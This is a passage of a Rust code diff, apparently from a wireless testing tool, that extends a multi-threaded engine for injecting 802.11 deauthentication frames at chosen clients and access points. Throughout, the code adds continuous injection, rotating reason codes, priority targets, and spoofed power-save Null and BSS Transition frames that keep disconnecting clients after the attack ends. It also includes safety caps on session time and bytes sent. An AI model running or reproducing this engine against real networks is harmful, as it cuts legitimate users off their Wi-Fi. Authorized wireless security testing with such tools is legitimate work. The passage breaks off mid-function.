@@ -6,17 +6,34 @@
 //! - Rate limiting and flow control
 //! - Real-time metrics collection
 
-use super::{buffer::PacketBuffer, metrics::MetricsCollector, packet::DeauthPacket};
+use super::{
+    attack::{AttackEstimate, AttackHandle, AttackProfile, AttackTracker},
+    buffer::PacketBuffer,
+    event::Event,
+    metrics::{MetricsCollector, MetricsJournal, WorkerCounters, WorkerMetrics},
+    packet::{ActionFramePacket, DeauthPacket, MacAddress, NullFramePacket, ReasonCode},
+    template::{FrameKey, FrameTemplateCache},
+    warnings::{Warning, WarningCategory, Warnings},
+};
+use crate::network::capture::{CaptureResult, CaptureSource};
+use crate::network::injection::{Injector, SimulatedInjector};
+use crate::network::loopback::LoopbackChannel;
+use crate::network::sink::FrameSinkConfig;
+use crate::network::interface::NetworkInterface;
 use crate::{DeauthError, Result};
 use bytes::BytesMut;
 use crossbeam::queue::SegQueue;
-use mac_address::MacAddress;
-use parking_lot::RwLock;
+use parking_lot::{Mutex, RwLock};
+use rand::rngs::StdRng;
+use rand::SeedableRng;
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::collections::HashSet;
+use std::path::PathBuf;
 use std::sync::Arc;
 use std::thread;
 use std::time::{Duration, Instant};
 use tokio::sync::{broadcast, mpsc, oneshot};
+use tokio_util::sync::CancellationToken;
 use tracing::{debug, error, info, warn};
 
 /// Injection request for the worker pool
@@ -25,8 +42,145 @@ pub struct InjectionRequest {
     pub target: MacAddress,
     pub access_point: MacAddress,
     pub reason_code: u16,
+    
+    /// Frames to send; 0 sends continuously until `stop_injection` or shutdown
     pub count: u32,
+    
     pub interval: Duration,
+    
+    /// Reason codes cycled by `round`; `reason_code` is used when empty
+    pub reason_codes: Arc<[ReasonCode]>,
+    
+    /// Attack round this request was issued in
+    pub round: u32,
+    
+    /// Frame type sent for this request
+    pub mode: FrameMode,
+    
+    /// Attack run this request belongs to, if any
+    pub(crate) tracker: Option<Arc<AttackTracker>>,
+    
+    /// Scheduling priority; raised to `High` when queued for a priority target
+    pub priority: Priority,
+}
+
+/// Scheduling priority of an injection request
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Priority {
+    /// Serviced in submission order
+    #[default]
+    Normal,
+    
+    /// Dequeued before any normal request, e.g. for a target the operator starred
+    High,
+}
+
+/// Outcome of one request submitted with `DeauthEngine::inject_batch`
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum BatchStatus {
+    /// The request was queued
+    Accepted,
+    
+    /// The request failed validation for the given reason
+    Rejected(String),
+    
+    /// The request was valid but not queued because another one was rejected
+    Withheld,
+}
+
+/// Frame type an injection request sends
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum FrameMode {
+    /// Deauthentication frames from the access point to the target
+    #[default]
+    Deauth,
+    
+    /// Advanced: QoS Null frames spoofed from the target with the power
+    /// management bit set, see `NullFramePacket`
+    ///
+    /// Requires `EngineConfig::allow_advanced_frames`.
+    PowerSaveNull,
+    
+    /// Advanced: WNM BSS Transition Management Requests spoofed from the
+    /// access point, announcing imminent disassociation, see `ActionFramePacket`
+    ///
+    /// Ignored by clients using Protected Management Frames or lacking
+    /// 802.11v support. Requires `EngineConfig::allow_advanced_frames`.
+    BssTransition,
+}
+
+impl InjectionRequest {
+    /// Create a deauthentication request for `target`
+    pub fn deauth(target: MacAddress, access_point: MacAddress, reason_code: ReasonCode, count: u32, interval: Duration) -> Self {
+        Self {
+            target,
+            access_point,
+            reason_code,
+            count,
+            interval,
+            reason_codes: Arc::from([]),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        }
+    }
+    
+    /// Reason code for this request's round
+    pub fn effective_reason_code(&self) -> ReasonCode {
+        if self.reason_codes.is_empty() {
+            self.reason_code
+        } else {
+            self.reason_codes[self.round as usize % self.reason_codes.len()]
+        }
+    }
+    
+    /// Build the deauthentication frame for this request
+    pub fn build_packet(&self) -> DeauthPacket {
+        let mut packet = DeauthPacket::new(
+            self.target,
+            self.access_point,
+            self.access_point,
+            self.effective_reason_code(),
+        );
+        packet.sequence_number = (self.round & 0x0FFF) as u16;
+        packet
+    }
+    
+    /// Build the power-save QoS Null frame for this request
+    pub fn build_null_frame(&self) -> NullFramePacket {
+        let mut packet = NullFramePacket::new(self.target, self.access_point);
+        packet.sequence_number = (self.round & 0x0FFF) as u16;
+        packet
+    }
+    
+    /// Build the BSS Transition Management Request for this request
+    pub fn build_bss_transition(&self) -> ActionFramePacket {
+        let mut packet = ActionFramePacket::bss_transition(self.target, self.access_point);
+        packet.sequence_number = (self.round & 0x0FFF) as u16;
+        packet
+    }
+    
+    /// Template cache key of this request's frame in its current round
+    pub fn frame_key(&self) -> FrameKey {
+        match self.mode {
+            FrameMode::Deauth => FrameKey {
+                subtype: 0xC0,
+                addresses: [self.target, self.access_point, self.access_point],
+                body: self.effective_reason_code(),
+            },
+            FrameMode::PowerSaveNull => FrameKey {
+                subtype: 0xC8,
+                addresses: [self.access_point, self.target, self.access_point],
+                body: 0,
+            },
+            FrameMode::BssTransition => FrameKey {
+                subtype: 0xD0,
+                addresses: [self.target, self.access_point, self.access_point],
+                body: 0,
+            },
+        }
+    }
 }
 
 /// Engine configuration
@@ -47,11 +201,101 @@ pub struct EngineConfig {
     /// Metrics window size
     pub metrics_window: usize,
     
+    /// Weight of the newest sample in `Metrics::smoothed_pps` (0.0 - 1.0)
+    pub pps_smoothing: f64,
+    
     /// Enable rate limiting
     pub rate_limiting: bool,
     
     /// Maximum concurrent targets
     pub max_targets: usize,
+    
+    /// Maximum combined injection rate across all workers (packets/second)
+    pub max_aggregate_rate: u32,
+    
+    /// Optional metrics journal, truncated when the engine starts
+    pub metrics_journal: Option<PathBuf>,
+    
+    /// Seed for the engine's RNG; `None` seeds from OS entropy
+    ///
+    /// Set it in tests to make MAC randomization reproducible.
+    pub rng_seed: Option<u64>,
+    
+    /// Reason code used when a request or profile does not specify one
+    pub default_reason_code: ReasonCode,
+    
+    /// Airtime pacing shared by all workers; `None` paces by packet count only
+    pub airtime: Option<AirtimeConfig>,
+    
+    /// Tune each worker's rate to the send buffer instead of fixing it
+    ///
+    /// Workers start at a quarter of `max_rate_per_worker`, ramp up while
+    /// sends go through and halve their rate whenever the send buffer fills
+    /// (see `AdaptiveRate`). `max_rate_per_worker` remains the ceiling.
+    pub adaptive_rate: bool,
+    
+    /// Climb linearly from zero to the full rate over this window
+    ///
+    /// Avoids a full-rate burst the instant an attack starts. A worker's ramp
+    /// restarts when it picks up work after idling for longer than the window
+    /// (see `RampUp`); `None` starts at full rate.
+    pub ramp_up: Option<Duration>,
+    
+    /// Allow advanced disruption frames such as power-save QoS Null frames
+    /// and BSS transition requests
+    ///
+    /// Off by default: these frames keep affecting a client after the attack
+    /// stops, so they have to be enabled deliberately.
+    pub allow_advanced_frames: bool,
+    
+    /// Waits between frames at or below this are busy-waited rather than slept
+    ///
+    /// `thread::sleep` overshoots sub-millisecond waits on most platforms, so
+    /// the tail of every wait is spun instead (see `PacketPacer`). Zero always
+    /// sleeps.
+    pub spin_threshold: Duration,
+    
+    /// Hard cap on how long the engine injects after `start`
+    ///
+    /// A safety rail against attacks left running unattended: once it
+    /// elapses every request is dropped and no new ones are accepted,
+    /// independent of attack profiles. `None` never expires.
+    pub max_session_duration: Option<Duration>,
+    
+    /// Hard cap on the bytes injected after `start`
+    ///
+    /// For lab agreements that limit total traffic rather than rate or
+    /// duration: once the collector's byte count reaches it, injection stops
+    /// as for `max_session_duration`. `None` never runs out.
+    pub max_total_bytes: Option<u64>,
+    
+    /// Keep a copy of up to this many injected frames for export
+    ///
+    /// Lets a session be written out as a pcap of exactly the frames sent,
+    /// without ambient traffic (see `take_injected_frames`). Frames past the
+    /// limit are not kept; `None` records nothing.
+    pub record_injected_frames: Option<usize>,
+    
+    /// Send frames to this transport instead of a wireless interface
+    ///
+    /// Opened by `start` and takes the place of any injector given to
+    /// `with_injector`. `None` keeps the injector.
+    pub frame_sink: Option<FrameSinkConfig>,
+    
+    /// Touch every pooled buffer in `start`, see `PacketBuffer::warm_up`
+    ///
+    /// Trades a slower start for lower latency on the first burst.
+    pub warm_up_buffers: bool,
+}
+
+/// Airtime pacing configuration
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct AirtimeConfig {
+    /// PHY rate frames are sent at (kbit/s); management frames usually go out at 1000
+    pub phy_rate_kbps: u32,
+    
+    /// Microseconds on air allowed per second, at most 1 000 000
+    pub budget_us_per_second: u64,
 }
 
 impl Default for EngineConfig {
@@ -62,9 +306,89 @@ impl Default for EngineConfig {
             buffer_pool_size: 100,
             buffer_size: 2048,
             metrics_window: 100,
+            pps_smoothing: super::metrics::DEFAULT_PPS_SMOOTHING,
             rate_limiting: true,
             max_targets: 50,
+            max_aggregate_rate: 5000,
+            metrics_journal: None,
+            rng_seed: None,
+            default_reason_code: super::packet::reason_codes::UNSPECIFIED,
+            airtime: None,
+            adaptive_rate: false,
+            ramp_up: None,
+            allow_advanced_frames: false,
+            spin_threshold: DEFAULT_SPIN_THRESHOLD,
+            max_session_duration: None,
+            max_total_bytes: None,
+            record_injected_frames: None,
+            frame_sink: None,
+            warm_up_buffers: false,
+        }
+    }
+}
+
+impl EngineConfig {
+    /// Combined injection rate of all workers (packets/second)
+    pub fn aggregate_rate(&self) -> u64 {
+        self.worker_threads as u64 * self.max_rate_per_worker as u64
+    }
+    
+    /// Validate the configuration
+    pub fn validate(&self) -> Result<()> {
+        if self.worker_threads == 0 {
+            return Err(DeauthError::invalid_field("worker_threads", "must be at least 1"));
         }
+        
+        if self.max_rate_per_worker == 0 {
+            return Err(DeauthError::invalid_field("max_rate_per_worker", "must be at least 1"));
+        }
+        
+        if !(self.pps_smoothing > 0.0 && self.pps_smoothing <= 1.0) {
+            return Err(DeauthError::invalid_field("pps_smoothing", "must be above 0.0 and at most 1.0"));
+        }
+        
+        if self.max_targets == 0 {
+            return Err(DeauthError::invalid_field("max_targets", "must be at least 1"));
+        }
+        
+        if self.max_session_duration == Some(Duration::ZERO) {
+            return Err(DeauthError::invalid_field("max_session_duration", "must be longer than zero"));
+        }
+        
+        if self.max_total_bytes == Some(0) {
+            return Err(DeauthError::invalid_field("max_total_bytes", "must be at least 1"));
+        }
+        
+        if self.ramp_up == Some(Duration::ZERO) {
+            return Err(DeauthError::invalid_field("ramp_up", "must be longer than zero"));
+        }
+        
+        if let Some(airtime) = self.airtime {
+            if airtime.phy_rate_kbps == 0 {
+                return Err(DeauthError::invalid_field("airtime.phy_rate_kbps", "must be at least 1"));
+            }
+            
+            if !(1..=1_000_000).contains(&airtime.budget_us_per_second) {
+                return Err(DeauthError::invalid_field(
+                    "airtime.budget_us_per_second",
+                    "must be between 1 and 1000000",
+                ));
+            }
+        }
+        
+        let aggregate_rate = self.aggregate_rate();
+        if aggregate_rate > self.max_aggregate_rate as u64 {
+            warn!(
+                "Requested aggregate rate of {} pps ({} workers x {} pps) exceeds the {} pps ceiling",
+                aggregate_rate, self.worker_threads, self.max_rate_per_worker, self.max_aggregate_rate
+            );
+            return Err(DeauthError::invalid_field(
+                "max_aggregate_rate",
+                format!("aggregate rate {} pps exceeds the {} pps ceiling", aggregate_rate, self.max_aggregate_rate),
+            ));
+        }
+        
+        Ok(())
     }
 }
 
@@ -80,31 +404,266 @@ pub struct DeauthEngine {
     metrics_collector: Arc<MetricsCollector>,
     
     /// Injection request queue
-    request_queue: Arc<SegQueue<InjectionRequest>>,
+    request_queue: Arc<RequestQueue>,
     
     /// Worker thread handles
     workers: Vec<thread::JoinHandle<()>>,
     
+    /// Per-worker counters, indexed by worker id
+    worker_counters: Vec<Arc<WorkerCounters>>,
+    
     /// Engine control
     running: Arc<AtomicBool>,
     
     /// Channel for async communication
     control_tx: mpsc::Sender<EngineCommand>,
-    control_rx: Arc<RwLock<mpsc::Receiver<EngineCommand>>>,
+    
+    /// Receiving end of the control channel, moved into the dispatcher by `start`
+    control_rx: Option<mpsc::Receiver<EngineCommand>>,
     
     /// Metrics broadcast channel
     metrics_tx: broadcast::Sender<MetricsUpdate>,
+    
+    /// Event broadcast channel
+    events_tx: broadcast::Sender<Event>,
+    
+    /// Interface frames are injected on, if known
+    interface: Option<NetworkInterface>,
+    
+    /// Frame transmitter shared by the workers, replaced by `set_injector`
+    injector: Arc<RwLock<Arc<dyn Injector>>>,
+    
+    /// Airtime pacer shared by the workers, if configured
+    airtime_pacer: Option<Arc<AirtimePacer>>,
+    
+    /// Bytes reserved against `max_total_bytes`, if configured
+    byte_budget: Option<Arc<ByteBudget>>,
+    
+    /// Graceful stop state shared with the workers
+    stop_state: Arc<StopState>,
+    
+    /// Warnings to surface to the user
+    warnings: Warnings,
+    
+    /// Copies of injected frames, if recording is configured
+    injected_frames: Option<Arc<InjectedFrameLog>>,
+    
+    /// Serialized frames reused across sends
+    frame_templates: Arc<FrameTemplateCache>,
+    
+    /// Random source for MAC randomization
+    rng: Mutex<StdRng>,
+}
+
+/// Graceful stop state shared between the engine and its workers
+#[derive(Debug, Default)]
+struct StopState {
+    /// New requests are refused and queued ones dropped
+    draining: AtomicBool,
+    
+    /// Requests still executing are cut short between frames
+    abort: AtomicBool,
+    
+    /// The session cap elapsed; unlike a graceful stop this is never cleared
+    expired: AtomicBool,
+    
+    /// The byte budget ran out; never cleared either
+    budget_exhausted: AtomicBool,
+    
+    /// Requests the workers are currently executing
+    in_flight: AtomicU64,
+}
+
+impl StopState {
+    /// Whether new and queued requests are dropped
+    fn is_draining(&self) -> bool {
+        self.draining.load(Ordering::SeqCst) || self.is_halted()
+    }
+    
+    /// Whether requests already executing are cut short
+    fn is_aborting(&self) -> bool {
+        self.abort.load(Ordering::SeqCst) || self.is_halted()
+    }
+    
+    fn is_expired(&self) -> bool {
+        self.expired.load(Ordering::SeqCst)
+    }
+    
+    fn is_budget_exhausted(&self) -> bool {
+        self.budget_exhausted.load(Ordering::SeqCst)
+    }
+    
+    /// Whether a safety rail stopped injection for the rest of the session
+    fn is_halted(&self) -> bool {
+        self.is_expired() || self.is_budget_exhausted()
+    }
+    
+    /// Wait until no worker is executing a request
+    async fn wait_idle(&self) {
+        while self.in_flight.load(Ordering::SeqCst) > 0 {
+            tokio::time::sleep(Duration::from_millis(5)).await;
+        }
+    }
+}
+
+/// Injection request queue serving high-priority requests first
+///
+/// Requests are FIFO within a priority. A request for one of the priority
+/// targets, or for a client of one, is raised to `Priority::High` when pushed.
+#[derive(Debug, Default)]
+struct RequestQueue {
+    high: SegQueue<(InjectionRequest, u64)>,
+    normal: SegQueue<(InjectionRequest, u64)>,
+    priority_targets: RwLock<HashSet<MacAddress>>,
+    
+    /// Bumped by `stop_injection`; requests queued before a bump stop between frames
+    stop_generation: AtomicU64,
+}
+
+impl RequestQueue {
+    /// Queue `request`, stamped with the current stop generation
+    fn push(&self, mut request: InjectionRequest) {
+        if request.priority == Priority::Normal {
+            let priority_targets = self.priority_targets.read();
+            if priority_targets.contains(&request.target) || priority_targets.contains(&request.access_point) {
+                request.priority = Priority::High;
+            }
+        }
+        
+        let generation = self.stop_generation.load(Ordering::SeqCst);
+        match request.priority {
+            Priority::High => self.high.push((request, generation)),
+            Priority::Normal => self.normal.push((request, generation)),
+        }
+    }
+    
+    fn pop(&self) -> Option<InjectionRequest> {
+        self.pop_stamped().map(|(request, _)| request)
+    }
+    
+    /// Dequeue a request with the stop generation it was queued in
+    fn pop_stamped(&self) -> Option<(InjectionRequest, u64)> {
+        self.high.pop().or_else(|| self.normal.pop())
+    }
+    
+    /// Stop every request queued so far, once running, before its next frame
+    fn stop(&self) {
+        self.stop_generation.fetch_add(1, Ordering::SeqCst);
+    }
+    
+    /// Whether `stop` was called after a request stamped `generation` was queued
+    fn is_stopped_since(&self, generation: u64) -> bool {
+        self.stop_generation.load(Ordering::SeqCst) != generation
+    }
+    
+    fn len(&self) -> usize {
+        self.high.len() + self.normal.len()
+    }
+    
+    fn is_empty(&self) -> bool {
+        self.high.is_empty() && self.normal.is_empty()
+    }
+    
+    /// Replace the priority targets; already queued requests keep their place
+    fn set_priority_targets(&self, targets: HashSet<MacAddress>) {
+        *self.priority_targets.write() = targets;
+    }
 }
 
 /// Engine control commands
 #[derive(Debug)]
 enum EngineCommand {
     StartInjection(InjectionRequest),
+    StartBatch(Vec<InjectionRequest>),
     StopInjection,
     Shutdown,
     GetMetrics(oneshot::Sender<MetricsUpdate>),
 }
 
+/// Result of an offline engine self-test
+#[derive(Debug, Clone, Default)]
+pub struct SelfTestReport {
+    /// Frames serialize to a well-formed deauthentication frame
+    pub packet_build: bool,
+    
+    /// Buffers can be acquired, filled and returned
+    pub buffer_pool: bool,
+    
+    /// Injections are counted and aggregated correctly
+    pub metrics: bool,
+    
+    /// Description of each failed check
+    pub failures: Vec<String>,
+}
+
+impl SelfTestReport {
+    /// Check if every subsystem passed
+    pub fn passed(&self) -> bool {
+        self.packet_build && self.buffer_pool && self.metrics
+    }
+}
+
+/// Snapshot of the engine's subsystems for long-running deployments
+///
+/// Catches silent failures such as every worker having died while the
+/// engine still reports itself as running.
+#[derive(Debug, Clone)]
+pub struct HealthReport {
+    /// Whether the engine has not been shut down
+    pub running: bool,
+    
+    /// Worker threads still alive
+    pub workers_alive: usize,
+    
+    /// Worker threads configured
+    pub workers_total: usize,
+    
+    /// Injection requests waiting for a worker
+    pub queue_depth: usize,
+    
+    /// Fraction of pooled buffers in use (0.0 - 1.0)
+    pub buffer_utilization: f64,
+    
+    /// Time since the last injection attempt; `None` if nothing was sent yet
+    pub since_last_injection: Option<Duration>,
+    
+    /// Whether the injection interface still exists; `None` if no interface is
+    /// set or the system's devices could not be listed
+    pub interface_present: Option<bool>,
+}
+
+impl HealthReport {
+    /// Check if the engine is running with every worker alive and its interface present
+    pub fn healthy(&self) -> bool {
+        self.running
+            && self.workers_alive == self.workers_total
+            && self.interface_present != Some(false)
+    }
+}
+
+/// Frames pushed through the metrics pipeline during a self-test
+const SELF_TEST_FRAMES: u64 = 16;
+
+/// Captures examined for the injected frame during a frame integrity check
+const INTEGRITY_MAX_CAPTURES: usize = 64;
+
+/// The frame integrity check's deauthentication, as it must appear on air
+///
+/// Written out by hand rather than serialized, so a serializer regression
+/// cannot change both sides of the comparison.
+const INTEGRITY_FRAME: [u8; 26] = [
+    0xC0, 0x00, // Frame control: management, deauthentication
+    0x3A, 0x01, // Duration: 314 us
+    0x02, 0x00, 0x00, 0x00, 0x00, 0x01, // Destination
+    0x02, 0x00, 0x00, 0x00, 0x00, 0x02, // Source
+    0x02, 0x00, 0x00, 0x00, 0x00, 0x02, // BSSID
+    0x00, 0x00, // Sequence control
+    0x07, 0x00, // Reason: class 3 frame from nonassociated station
+];
+
+/// Length of the frame check sequence some drivers append to captured frames
+const FCS_LEN: usize = 4;
+
 /// Metrics update message
 #[derive(Debug, Clone)]
 pub struct MetricsUpdate {
@@ -120,12 +679,37 @@ impl DeauthEngine {
             config.buffer_size,
         ));
         
-        let metrics_collector = Arc::new(MetricsCollector::new(config.metrics_window));
-        let request_queue = Arc::new(SegQueue::new());
+        Self::with_buffer_pool(config, buffer_pool)
+    }
+    
+    /// Create a new deauthentication engine drawing from a shared buffer pool
+    ///
+    /// Engines sharing a pool compete for the same buffers, so size it for the
+    /// combined worker count of all engines (`buffer_pool_size` and `buffer_size`
+    /// from `config` are ignored). Buffers whose capacity differs from the pool's
+    /// buffer size are dropped on release rather than returned.
+    pub fn with_buffer_pool(config: EngineConfig, buffer_pool: Arc<PacketBuffer>) -> Result<Self> {
+        config.validate()?;
+        
+        let metrics_collector = Arc::new(MetricsCollector::new(config.metrics_window).with_pps_smoothing(config.pps_smoothing));
+        let request_queue = Arc::new(RequestQueue::default());
         let running = Arc::new(AtomicBool::new(true));
+        let worker_counters = (0..config.worker_threads)
+            .map(|_| Arc::new(WorkerCounters::default()))
+            .collect();
+        
+        let rng = match config.rng_seed {
+            Some(seed) => StdRng::seed_from_u64(seed),
+            None => StdRng::from_entropy(),
+        };
+        
+        let airtime_pacer = config.airtime.map(|airtime| Arc::new(AirtimePacer::new(airtime)));
+        let byte_budget = config.max_total_bytes.map(|limit| Arc::new(ByteBudget::new(limit)));
+        let injected_frames = config.record_injected_frames.map(|limit| Arc::new(InjectedFrameLog::new(limit)));
         
         let (control_tx, control_rx) = mpsc::channel(100);
         let (metrics_tx, _) = broadcast::channel(10);
+        let (events_tx, _) = broadcast::channel(16);
         
         Ok(Self {
             config,
@@ -133,17 +717,59 @@ impl DeauthEngine {
             metrics_collector,
             request_queue: Arc::clone(&request_queue),
             workers: Vec::new(),
+            worker_counters,
             running,
             control_tx,
-            control_rx: Arc::new(RwLock::new(control_rx)),
+            control_rx: Some(control_rx),
             metrics_tx,
+            events_tx,
+            interface: None,
+            injector: Arc::new(RwLock::new(recorded(Arc::new(SimulatedInjector), injected_frames.as_ref()))),
+            airtime_pacer,
+            byte_budget,
+            stop_state: Arc::new(StopState::default()),
+            warnings: Warnings::new(),
+            injected_frames,
+            frame_templates: Arc::new(FrameTemplateCache::default()),
+            rng: Mutex::new(rng),
         })
     }
     
+    /// Use `injector` to transmit frames instead of the simulated default
+    pub fn with_injector(self, injector: Arc<dyn Injector>) -> Self {
+        self.set_injector(injector);
+        self
+    }
+    
+    /// Transmit frames through `injector` from now on
+    ///
+    /// Unlike `with_injector` this works on a running engine, e.g. once the
+    /// interface to attack on has been opened. Each worker switches when it
+    /// picks up its next request. A configured frame sink is replaced too.
+    pub fn set_injector(&self, injector: Arc<dyn Injector>) {
+        *self.injector.write() = recorded(injector, self.injected_frames.as_ref());
+    }
+    
+    /// Record the interface frames are injected on
+    ///
+    /// Attack profiles are checked against its current channel when they start.
+    pub fn with_interface(mut self, interface: NetworkInterface) -> Self {
+        self.interface = Some(interface);
+        self
+    }
+    
     /// Start the engine and worker threads
     pub fn start(&mut self) -> Result<()> {
         info!("Starting deauthentication engine with {} workers", self.config.worker_threads);
         
+        if let Some(ref sink) = self.config.frame_sink {
+            self.set_injector(sink.open()?);
+        }
+        
+        if self.config.warm_up_buffers {
+            self.buffer_pool.warm_up();
+        }
+        
         for worker_id in 0..self.config.worker_threads {
             let worker = self.spawn_worker(worker_id)?;
             self.workers.push(worker);
@@ -152,6 +778,17 @@ impl DeauthEngine {
         // Start metrics collection task
         self.start_metrics_task();
         
+        if let Some(control_rx) = self.control_rx.take() {
+            self.start_dispatcher(control_rx);
+        }
+        
+        if let Some(max_session_duration) = self.config.max_session_duration {
+            self.start_session_timer(max_session_duration);
+        }
+        
+        // No subscribers is not an error
+        let _ = self.events_tx.send(Event::EngineStarted { workers: self.workers.len() });
+        
         info!("Deauthentication engine started successfully");
         Ok(())
     }
@@ -160,44 +797,214 @@ impl DeauthEngine {
     fn spawn_worker(&self, worker_id: usize) -> Result<thread::JoinHandle<()>> {
         let request_queue = Arc::clone(&self.request_queue);
         let buffer_pool = Arc::clone(&self.buffer_pool);
+        let frame_templates = Arc::clone(&self.frame_templates);
         let metrics_collector = Arc::clone(&self.metrics_collector);
         let running = Arc::clone(&self.running);
+        let injector_slot = Arc::clone(&self.injector);
+        let counters = Arc::clone(&self.worker_counters[worker_id]);
+        let airtime_pacer = self.airtime_pacer.clone();
+        let stop_state = Arc::clone(&self.stop_state);
+        let warnings = self.warnings.clone();
+        let events_tx = self.events_tx.clone();
         let max_rate = self.config.max_rate_per_worker;
+        let spin_threshold = self.config.spin_threshold;
+        let byte_budget = self.byte_budget.clone();
+        let mut adaptive_rate = self.config.adaptive_rate.then(|| AdaptiveRate::new(max_rate));
+        let mut ramp_up = self.config.ramp_up.map(RampUp::new);
         
         let handle = thread::spawn(move || {
             info!("Worker {} started", worker_id);
             
-            let mut last_injection = Instant::now();
-            let min_interval = Duration::from_micros(1_000_000 / max_rate as u64);
+            let min_interval = adaptive_rate
+                .as_ref()
+                .map_or(Duration::from_micros(1_000_000 / max_rate as u64), AdaptiveRate::interval);
+            let mut pacer = PacketPacer::new(min_interval, spin_threshold);
+            counters.set_rate(adaptive_rate.as_ref().map_or(max_rate, AdaptiveRate::rate));
             
             while running.load(Ordering::Relaxed) {
-                if let Some(request) = request_queue.pop() {
-                    let start_time = Instant::now();
+                if let Some((mut request, generation)) = request_queue.pop_stamped() {
+                    // Drop requests belonging to a stopped attack, or queued before a
+                    // stop whose drain they slipped past
+                    let attack_stopped = request.tracker.as_ref().is_some_and(|tracker| tracker.is_stopped());
+                    if attack_stopped || request_queue.is_stopped_since(generation) {
+                        if let Some(ref tracker) = request.tracker {
+                            tracker.skip();
+                        }
+                        continue;
+                    }
+                    
+                    // Counted before checking for a drain so a graceful stop waits for this request
+                    stop_state.in_flight.fetch_add(1, Ordering::SeqCst);
+                    if stop_state.is_draining() {
+                        if let Some(ref tracker) = request.tracker {
+                            tracker.skip();
+                        }
+                        stop_state.in_flight.fetch_sub(1, Ordering::SeqCst);
+                        continue;
+                    }
+                    
+                    if let Some(ref mut ramp) = ramp_up {
+                        ramp.activate();
+                    }
                     
-                    // Rate limiting
-                    if start_time.duration_since(last_injection) < min_interval {
-                        thread::sleep(min_interval - start_time.duration_since(last_injection));
+                    // Attack profiles announce their targets themselves
+                    if request.tracker.is_none() {
+                        // No subscribers is not an error
+                        let _ = events_tx.send(Event::RequestStarted {
+                            target: request.target,
+                            count: request.count,
+                        });
                     }
                     
-                    // Process the injection request
-                    match process_injection_request(&request, &buffer_pool) {
-                        Ok(bytes_sent) => {
-                            let latency = start_time.elapsed();
-                            metrics_collector.record_injection(bytes_sent, true, latency);
-                            debug!("Worker {}: Injected {} bytes to {} in {:?}", 
-                                   worker_id, bytes_sent, request.target, latency);
+                    // Taken per request, so a replaced injector is used from the next request on
+                    let injector = Arc::clone(&*injector_slot.read());
+                    
+                    // A zero count repeats until stopped, so frames are counted without an upper bound
+                    let continuous = request.count == 0;
+                    let (mut sent, mut failed) = (0u32, 0u32);
+                    let mut frame = 0u64;
+                    while continuous || frame < u64::from(request.count) {
+                        let keep_going = || {
+                            running.load(Ordering::Relaxed)
+                                && !stop_state.is_aborting()
+                                && !request_queue.is_stopped_since(generation)
+                                && !(continuous && stop_state.is_draining())
+                                && !request.tracker.as_ref().is_some_and(|tracker| tracker.is_stopped())
+                        };
+                        if frame > 0 && (!keep_going() || !sleep_while(request.interval, keep_going)) {
+                            break;
+                        }
+                        frame += 1;
+                        
+                        let start_time = Instant::now();
+                        
+                        // Rate limiting at the adaptive rate, held back while ramping up
+                        if let Some(ref ramp) = ramp_up {
+                            let rate = ramp.rate(adaptive_rate.as_ref().map_or(max_rate, AdaptiveRate::rate));
+                            pacer.set_interval(Duration::from_micros(1_000_000 / u64::from(rate)));
+                            counters.set_rate(rate);
+                        }
+                        pacer.wait();
+                        
+                        // Process the injection request, charging the frame's airtime and
+                        // reserving its bytes against the budget first
+                        let buffer_full_before = metrics_collector.send_buffer_full();
+                        let result = with_request_frame(&request, &buffer_pool, &frame_templates, |frame| {
+                            if let Some(ref pacer) = airtime_pacer {
+                                // Radiotap headers never go on air
+                                let on_air = super::packet::strip_radiotap(frame).map_or(frame.len(), <[u8]>::len);
+                                while let Err(wait) = pacer.try_consume(on_air) {
+                                    if !keep_going() {
+                                        return Err(Unsent::Stopped);
+                                    }
+                                    thread::sleep(wait);
+                                }
+                            }
+                            
+                            if byte_budget.as_ref().is_some_and(|budget| !budget.reserve(frame.len())) {
+                                return Err(Unsent::OverBudget);
+                            }
+                            
+                            let result = inject_with_backoff(frame, injector.as_ref(), &metrics_collector);
+                            if let (Err(_), Some(budget)) = (&result, &byte_budget) {
+                                budget.release(frame.len());
+                            }
+                            Ok(result)
+                        });
+                        let result = match result {
+                            Ok(Ok(result)) => result,
+                            Ok(Err(Unsent::Stopped)) => {
+                                // Stopped while waiting for airtime, so the frame is not sent
+                                if let Some(ref tracker) = request.tracker {
+                                    tracker.skip();
+                                }
+                                break;
+                            }
+                            Ok(Err(Unsent::OverBudget)) => {
+                                // The frame does not fit in what is left of the budget, so it is not sent
+                                if let Some(ref tracker) = request.tracker {
+                                    tracker.skip();
+                                }
+                                if let Some(ref budget) = byte_budget {
+                                    exhaust_byte_budget(budget, &metrics_collector, &stop_state, &request_queue, &warnings, &events_tx);
+                                }
+                                break;
+                            }
+                            Err(e) => Err(e),
+                        };
+                        
+                        // Send buffer pressure, from this worker or another, counts as a drop;
+                        // other injection errors say nothing about the link's capacity
+                        if let Some(ref mut adaptive) = adaptive_rate {
+                            let dropped = metrics_collector.send_buffer_full() > buffer_full_before;
+                            adaptive.record(dropped);
+                            pacer.set_interval(adaptive.interval());
+                            counters.set_rate(adaptive.rate());
                         }
-                        Err(e) => {
-                            let latency = start_time.elapsed();
-                            metrics_collector.record_injection(0, false, latency);
-                            warn!("Worker {}: Injection failed: {}", worker_id, e);
+                        
+                        match result {
+                            Ok(bytes_sent) => {
+                                sent = sent.saturating_add(1);
+                                let latency = start_time.elapsed();
+                                metrics_collector.record_injection(bytes_sent, true, latency);
+                                counters.record(true);
+                                if let Some(ref tracker) = request.tracker {
+                                    tracker.record(request.target, bytes_sent, true);
+                                }
+                                debug!("Worker {}: Injected {} bytes to {} in {:?}",
+                                       worker_id, bytes_sent, request.target, latency);
+                                
+                                if let Some(budget) = byte_budget.as_ref().filter(|budget| budget.is_spent()) {
+                                    exhaust_byte_budget(budget, &metrics_collector, &stop_state, &request_queue, &warnings, &events_tx);
+                                }
+                            }
+                            Err(e) => {
+                                failed = failed.saturating_add(1);
+                                if failed == 1 {
+                                    let _ = events_tx.send(Event::InjectionFailed {
+                                        target: request.target,
+                                        error: e.to_string(),
+                                    });
+                                }
+                                let latency = start_time.elapsed();
+                                metrics_collector.record_injection(0, false, latency);
+                                counters.record(false);
